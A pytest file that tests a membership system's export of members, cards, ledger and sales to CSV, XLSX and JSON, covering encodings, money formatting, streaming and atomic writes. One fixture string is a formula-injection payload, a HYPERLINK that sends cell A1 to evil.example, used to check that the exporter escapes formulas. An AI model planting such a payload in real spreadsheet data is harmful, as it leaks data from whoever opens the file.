"""``mms export``: the bytes a back office gets — BOM, encodings, formula escaping, exact money, one row per card,
balanced ledger rows, period filters, a member's full data — and that it streams and never leaves half a file."""

from __future__ import annotations

import csv
import datetime as dt
import errno
import inspect
import io
import itertools
import json
from collections import defaultdict

import openpyxl
import pytest

from mms_tui import clock
from mms_tui.models import Card, Entry, Store, Transaction
from mms_tui.services.base.errors import DomainError, InvalidInput, UnknownMember
from mms_tui.services.exchange import export as export_service
from mms_tui.services.exchange import export_formats
from mms_tui.services.exchange.export import export_table
from mms_tui.services.exchange.export_formats import escape_formula, format_for
from mms_tui.services.exchange.export_rows import LEDGER_COLUMNS, SALE_COLUMNS, table_rows, yuan
from mms_tui.services.exchange.fields import MEMBER_COLUMNS
from mms_tui.services.exchange.member_document import export_member
from mms_tui.services.ledger.tenders import Tender
from mms_tui.services.members.cards import issue_card
from mms_tui.services.members.checkin import check_in
from mms_tui.services.members.profile import register_member
from mms_tui.services.money.checkout import checkout
from mms_tui.services.money.topup import top_up

BOM = b"\xef\xbb\xbf"
#: the member file's headers in an English workbook (#25: a person's headers; the import reads them back)
XLSX_MEMBER_HEADERS = ("Name", "Phone", "Gender", "Birthday", "Tier", "Notes", "Joined", "Store", "Card number",
                       "Card type", "Status", "Balance", "Bonus", "Points", "Visits", "Valid from", "Valid until",
                       "Reader uid", "Barcode")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
DAY1, DAY2 = dt.datetime(2026, 11, 2, 10, 15), dt.datetime(2026, 11, 3, 18, 40)


def at(txid: str, when: dt.datetime) -> None:
    Transaction.update(created_at=when).where(Transaction.txid == txid).execute()


@pytest.fixture
def shop(desk):
    """张三 holds a stored-value card with ¥1,234.50 (+ ¥50.50 bonus) and a 10-visit package (one used); 李四,
    王五 and 赵六 hold no card. Notes that a spreadsheet would run as formulas. Day 1: the top-up and a cash sale
    of 精剪 to 张三; day 2: 2 waters for cash (no member) and the check-in."""
    c = desk.cashier
    m = register_member("张三", "13800138000", c, "r1", notes=EVIL, gender="男", birthday="1990-05-17").member_id
    register_member("李四", "13912345678", c, "r2", notes="+1")
    register_member("王五", "13700137000", c, "r3", notes="@x")
    register_member("赵六", "13600136000", c, "r4", notes="-2")
    sv = issue_card(m, "SV", c, "i1", card_no="SV1", price_fen=0).card_id
    pkg = issue_card(m, "V10", c, "i2", card_no="PKG1", tender="cash").card_id
    top_up(sv, 123_450, 5_050, "wechat", desk.manager, "t1")
    checkout(m, ["HAIR"], [("cash", 8_800)], c, "s1")
    checkout(None, [("WATER", 2)], [("cash", 600)], c, "s2")
    check_in(pkg, c, "v1")
    for txid in ("t1", "s1"):
        at(txid, DAY1)
    for txid in ("s2", "v1"):
        at(txid, DAY2)
    return desk


def read_csv(path, encoding="utf-8-sig") -> list[dict[str, str]]:
    with open(path, newline="", encoding=encoding) as f:
        return list(csv.DictReader(f))


# --- values, without a database -----------------------------------------------------------------------------------


def test_money_is_exact_yuan_text():
    assert [yuan(f) for f in (123_450, 5_050, 0, 7, 100, -250)] == ["1234.50", "50.50", "0.00", "0.07", "1.00",
                                                                    "-2.50"]


@pytest.mark.parametrize("value, escaped", [
    (EVIL, "'" + EVIL), ("+1", "'+1"), ("-2", "'-2"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("张三", "张三"), ("", ""), ("a=b", "a=b"), (-12_345, -12_345), (None, None),
])
def test_formula_escaping_touches_only_text_that_starts_a_formula(value, escaped):
    assert escape_formula(value) == escaped


def test_format_follows_the_suffix_unless_given():
    assert [format_for(t) for t in ("a.xlsx", "A.XLSX", "a.jsonl", "a.json", "a.csv", "a.txt", "-")] == [
        "xlsx", "xlsx", "jsonl", "json", "csv", "csv", "csv"]
    assert format_for("a.xlsx", "csv") == "csv"


# --- members ------------------------------------------------------------------------------------------------------


def test_members_csv_has_a_bom_the_import_columns_and_one_row_per_card(shop, tmp_path):
    target = tmp_path / "members.csv"
    result = export_table("members", str(target))
    assert target.read_bytes().startswith(BOM)
    assert next(csv.reader(io.StringIO(target.read_text("utf-8-sig")))) == list(MEMBER_COLUMNS)
    rows = read_csv(target)
    assert result.rows == len(rows) == 5  # 张三 twice (two cards), the others once
    zhang = [r for r in rows if r["name"] == "张三"]
    assert [r["card_no"] for r in zhang] == ["SV1", "PKG1"]
    sv, pkg = zhang
    points = Card.get(Card.card_no == "SV1").points
    assert sv == {
        "name": "张三", "phone": "13800138000", "gender": "M", "birthday": "1990-05-17", "tier": "NORMAL",
        "notes": "'" + EVIL, "joined": clock.today().isoformat(), "store": "HQ", "card_no": "SV1",
        "card_type": "SV", "status": "active", "balance": "1234.50", "bonus": "50.50", "points": str(points),
        "visits": "0", "valid_from": "", "valid_until": "", "reader_uid": "", "barcode": "",
    }
    assert (pkg["card_type"], pkg["visits"], pkg["balance"]) == ("V10", "9", "0.00")
    (li,) = [r for r in rows if r["name"] == "李四"]
    assert li["notes"] == "'+1"
    assert all(li[c] == "" for c in MEMBER_COLUMNS[MEMBER_COLUMNS.index("card_no"):])


def test_gb18030_for_old_excel(shop, tmp_path):
    target = tmp_path / "members.csv"
    export_table("members", str(target), encoding="gb18030")
    data = target.read_bytes()
    assert not data.startswith(BOM)
    assert "张三".encode("gb18030") in data
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    assert {r["name"] for r in read_csv(target, "gb18030")} == {"张三", "李四", "王五", "赵六"}


def test_formulas_are_escaped_in_csv_and_xlsx_but_not_in_json(shop, tmp_path):
    expected = {"张三": "'" + EVIL, "李四": "'+1", "王五": "'@x", "赵六": "'-2"}
    export_table("members", str(tmp_path / "m.csv"))
    assert {r["name"]: r["notes"] for r in read_csv(tmp_path / "m.csv")} == expected

    export_table("members", str(tmp_path / "m.xlsx"))
    sheet = openpyxl.load_workbook(tmp_path / "m.xlsx").active
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == list(XLSX_MEMBER_HEADERS)
    notes = MEMBER_COLUMNS.index("notes")
    assert {r[0].value: r[notes].value for r in rows[1:]} == expected
    assert all(r[notes].data_type == "s" for r in rows[1:])  # text, never a formula cell

    export_table("members", str(tmp_path / "m.json"))
    raw = {r["name"]: r["notes"] for r in json.loads((tmp_path / "m.json").read_text("utf-8"))}
    assert raw == {"张三": EVIL, "李四": "+1", "王五": "@x", "赵六": "-2"}


def test_jsonl_has_the_same_keys_and_json_types(shop, tmp_path):
    target = tmp_path / "m.jsonl"
    export_table("members", str(target))
    data = target.read_bytes()
    assert not data.startswith(BOM)
    rows = [json.loads(line) for line in data.decode("utf-8").splitlines()]
    assert all(list(r) == list(MEMBER_COLUMNS) for r in rows)
    sv = next(r for r in rows if r["card_no"] == "SV1")
    assert (sv["balance"], sv["bonus"], sv["visits"]) == ("1234.50", "50.50", 0)
    assert next(r for r in rows if r["name"] == "李四")["points"] is None


def test_store_filter_and_unknown_store(shop, tmp_path):
    branch = Store.create(code="B2", name="分店")
    register_member("钱七", "13500135000", shop.cashier, "r5", store=branch)
    assert [r["name"] for r in table_rows("members", store="B2")] == ["钱七"]
    assert "钱七" not in {r["name"] for r in table_rows("members", store="HQ")}
    with pytest.raises(DomainError):
        export_table("members", str(tmp_path / "x.csv"), store="NOPE")
    assert not (tmp_path / "x.csv").exists()


# --- cards, ledger, sales ----------------------------------------------------------------------------------------


def test_cards_one_row_per_card_with_member_and_fen(shop):
    rows = {r["card_no"]: r for r in table_rows("cards")}
    assert set(rows) == {"SV1", "PKG1"}
    assert rows["SV1"]["member_phone"] == "13800138000" and rows["SV1"]["member_name"] == "张三"
    assert (rows["SV1"]["principal_fen"], rows["SV1"]["bonus_fen"], rows["SV1"]["kind"]) == (123_450, 5_050,
                                                                                          "stored_value")
    assert (rows["PKG1"]["visits_left"], rows["PKG1"]["card_type"]) == (9, "V10")


def test_ledger_rows_balance_per_transaction_and_unit(shop, tmp_path):
    target = tmp_path / "ledger.csv"
    export_table("ledger", str(target))
    rows = read_csv(target)
    assert list(rows[0]) == list(LEDGER_COLUMNS)
    assert len(rows) == Entry.select().count()
    sums: dict[tuple[str, str], int] = defaultdict(int)
    for r in rows:
        sums[(r["txid"], r["unit"])] += int(r["amount"])  # plain signed integers: "-12345", never "'-12345"
    assert sums and all(total == 0 for total in sums.values())
    topup = {r["account"]: r for r in rows if r["txid"] == "t1"}
    assert topup["card.principal"]["amount"] == "123450" and topup["card.principal"]["card_no"] == "SV1"
    assert topup["tender.wechat"]["amount"] == "-123450"
    assert topup["card.principal"]["member_phone"] == "13800138000"
    assert topup["card.principal"]["created_at"] == "2026-11-02 10:15:00"


def test_from_to_select_transaction_days_inclusive(shop):
    day1 = list(table_rows("ledger", start=dt.date(2026, 11, 2), end=dt.date(2026, 11, 2)))
    assert {r["txid"] for r in day1} == {"t1", "s1"}
    day2 = list(table_rows("ledger", start=dt.date(2026, 11, 3), end=dt.date(2026, 11, 3)))
    assert {r["txid"] for r in day2} == {"s2", "v1"}
    assert [s["txid"] for s in table_rows("sales", end=dt.date(2026, 11, 2))] == ["s1"]
    with pytest.raises(InvalidInput):
        table_rows("ledger", start=dt.date(2026, 11, 3), end=dt.date(2026, 11, 2))
    with pytest.raises(InvalidInput):
        table_rows("members", start=dt.date(2026, 11, 2))


def test_sales_one_row_per_sale_with_tenders_and_lines(shop):
    rows = {r["txid"]: r for r in table_rows("sales")}
    assert list(rows["s1"]) == list(SALE_COLUMNS)
    assert {f"{t}_fen" for t in Tender} <= set(SALE_COLUMNS)
    water = rows["s2"]
    assert (water["lines"], water["total_fen"], water["cash_fen"], water["member_phone"]) == ("矿泉水×2", 600, 600,
                                                                                              None)
    assert (rows["s1"]["lines"], rows["s1"]["member_phone"], rows["s1"]["status"]) == ("精剪×1", "13800138000",
                                                                                       "paid")


# --- streaming and whole files ------------------------------------------------------------------------------------


def test_rows_stream_page_by_page(shop):
    """A generator that queries page by page: a member added after the first row was read still arrives, which a
    list fetched up front could not do."""
    rows = table_rows("members", page_size=1)
    assert inspect.isgenerator(rows)
    assert next(rows)["name"] == "张三"
    register_member("孙八", "13300133000", shop.cashier, "late")
    assert [r["name"] for r in rows] == ["张三", "李四", "王五", "赵六", "孙八"]
    assert len(list(table_rows("ledger", page_size=1))) == Entry.select().count()  # pages keep every entry


def test_a_failure_midway_leaves_the_old_file_and_no_partial_one(shop, tmp_path, monkeypatch):
    out = tmp_path / "out"
    out.mkdir()
    target = out / "members.csv"
    target.write_text("yesterday's export\n")

    def disk_full_after_one(*args, **kwargs):
        def rows():
            yield from list(table_rows("members"))[:1]
            raise OSError(errno.ENOSPC, "No space left on device")
        return rows()

    monkeypatch.setattr(export_service, "table_rows", disk_full_after_one)
    for name in ("members.csv", "members.xlsx"):
        with pytest.raises(DomainError, match="No space left on device"):
            export_table("members", str(out / name))
    assert target.read_text() == "yesterday's export\n"
    assert sorted(p.name for p in out.iterdir()) == ["members.csv"]


def test_xlsx_longer_than_a_sheet_continues_on_a_second_sheet(shop, tmp_path, monkeypatch):
    monkeypatch.setattr(export_formats, "XLSX_MAX_ROWS", 3)  # header + 2 rows per sheet
    assert export_table("members", str(tmp_path / "m.xlsx")).rows == 5
    book = openpyxl.load_workbook(tmp_path / "m.xlsx")
    assert book.sheetnames == ["members", "members (2)", "members (3)"]
    assert all(next(s.values) == XLSX_MEMBER_HEADERS for s in book.worksheets)
    assert sum(s.max_row - 1 for s in book.worksheets) == 5


# --- one member ---------------------------------------------------------------------------------------------------


def test_member_document_holds_everything_about_them(shop, tmp_path):
    out = io.BytesIO()
    export_member("+86 138-0013-8000", "-", stdout=out)
    doc = json.loads(out.getvalue().decode("utf-8"))
    assert "张三" in out.getvalue().decode("utf-8")  # readable, not \\u escapes
    assert (doc["member"]["name"], doc["member"]["notes"]) == ("张三", EVIL)
    assert [c["card_no"] for c in doc["cards"]] == ["SV1", "PKG1"]
    assert doc["cards"][0]["principal_fen"] == 123_450
    assert {t["txid"] for t in doc["transactions"]} == {"r1", "i1", "i2", "t1", "s1", "v1"}
    topup = next(t for t in doc["transactions"] if t["txid"] == "t1")
    assert sum(e["amount"] for e in topup["entries"] if e["unit"] == "fen") == 0
    (sale,) = doc["sales"]
    assert sale["txid"] == "s1" and sale["lines"][0]["name"] == "精剪" and sale["payments"][0]["tender"] == "cash"
    assert [v["card_no"] for v in doc["visits"]] == ["PKG1"]
    assert {"member.register", "card.issue"} <= {e["action"] for e in doc["audit"]}
    with pytest.raises(UnknownMember):
        export_member("13999999999", "-", stdout=io.BytesIO())


# --- the command --------------------------------------------------------------------------------------------------


@pytest.fixture
def mms(run):
    return run


def test_cli_to_stdout_keeps_data_clean_and_reports_on_stderr(shop, mms):
    result = mms("--db", shop.target, "export", "ledger", "-", "--from", "2026-11-03", "--to", "2026-11-03")
    assert result.exit_code == 0, result.output
    assert not result.stdout_bytes.startswith(BOM)  # #25: a pipe gets plain UTF-8; a CSV file keeps its BOM
    rows = list(csv.DictReader(io.StringIO(result.stdout_bytes.decode("utf-8"))))
    assert {r["txid"] for r in rows} == {"s2", "v1"}
    asked = mms("--db", shop.target, "export", "ledger", "-", "--from", "2026-11-03", "--to", "2026-11-03",
                "--encoding", "utf-8-sig")
    assert asked.stdout_bytes.startswith(BOM) and asked.stdout_bytes[3:] == result.stdout_bytes
    assert result.stderr == f"Exported {len(rows)} rows to standard output.\n"

    as_json = mms("--db", shop.target, "export", "sales", "-", "--format", "json")
    assert [s["txid"] for s in json.loads(as_json.stdout)] == ["s1", "s2"]


def test_cli_writes_a_file_and_says_so(shop, mms, tmp_path):
    target = tmp_path / "members.xlsx"
    result = mms("--db", shop.target, "export", "members", str(target))
    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    assert result.stderr == f"Exported 5 rows to {target}.\n"
    assert next(openpyxl.load_workbook(target).active.values) == XLSX_MEMBER_HEADERS


def test_cli_member_data_to_a_file(shop, mms, tmp_path):
    target = tmp_path / "zhang.json"
    result = mms("--db", shop.target, "export", "member", "+86 138-0013-8000", str(target))
    assert result.exit_code == 0, result.output
    assert result.stderr == f"Exported the data of member 13800138000 to {target}.\n"
    doc = json.loads(target.read_text("utf-8"))
    assert [c["card_no"] for c in doc["cards"]] == ["SV1", "PKG1"] and doc["sales"][0]["txid"] == "s1"


ERRORS = [
    (("member", "13999999999"), "No member has the phone number 13999999999."),
    (("members", "{tmp}/missing/members.csv"), "Cannot write {tmp}/missing/members.csv: No such file or directory."),
    (("members", "-", "--format", "xlsx"), "XLSX needs a FILE"),
    (("members", "{tmp}/m.xlsx", "--encoding", "gb18030"), "--encoding applies to csv"),
    (("members", "{tmp}/m.csv", "--from", "2026-11-01"), "--from and --to apply to the ledger and sales"),
    (("ledger", "{tmp}/l.csv", "--store", "NOPE"), "No store 'NOPE'."),
    (("members", "{tmp}/a.csv", "{tmp}/b.csv"), "takes one FILE"),
]


def test_cli_errors_are_one_line_and_leave_no_file(shop, mms, tmp_path):
    for args, message in ERRORS:
        args = tuple(a.format(tmp=tmp_path) for a in args)
        result = mms("--db", shop.target, "export", *args)
        assert result.exit_code == 1, args
        assert result.stdout == "", args
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and message.format(tmp=tmp_path) in lines[0], (args, lines)
    assert [p.name for p in tmp_path.rglob("*") if not p.name.startswith("mms.sqlite3")] == []


# --- progress ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("table", ["members", "cards", "ledger", "sales"])
def test_a_long_export_tells_how_far_it_has_come_and_ends_whole(shop, tmp_path, table):
    heard: list[tuple[int, int]] = []
    result = export_table(table, str(tmp_path / f"{table}.csv"), page_size=1,
                          progress=lambda done, total: heard.append((done, total)))
    assert result.rows >= 2
    assert heard[-1] == (1, 1)  # the end: whole, whatever the ids said
    steps = heard[:-1]
    assert len(steps) >= 1  # pages of one row: told after every full page
    assert all(0 < done <= total for done, total in steps)
    done = [d for d, _ in steps]
    assert all(later > earlier for earlier, later in itertools.pairwise(done))  # it only ever grows


def test_mms_export_draws_a_progress_bar_on_a_terminal_and_nothing_in_a_pipe(shop, tmp_path):
    import os
    import subprocess
    import sys

    env = {**os.environ, "MMS_CONFIG": str(tmp_path / "absent.toml"), "MMS_LANG": "en", "COLUMNS": "80"}
    command = [sys.executable, "-m", "mms_tui", "--db", shop.target, "export", "members", str(tmp_path / "m.csv")]
    leader, follower = os.openpty()
    try:
        done = subprocess.run(command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=follower, env=env,
                              timeout=120)
        os.close(follower)
        follower = -1
        seen = b""
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:
                break
            if not chunk:
                break
            seen += chunk
    finally:
        os.close(leader)
        if follower >= 0:
            os.close(follower)
    assert done.returncode == 0
    text = seen.decode("utf-8", "replace")
    assert "Writing" in text and "100%" in text and "Exported 5 rows" in text
    piped = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True, env=env, timeout=120)
    assert piped.returncode == 0 and "Writing" not in piped.stderr and "Exported 5 rows" in piped.stderr
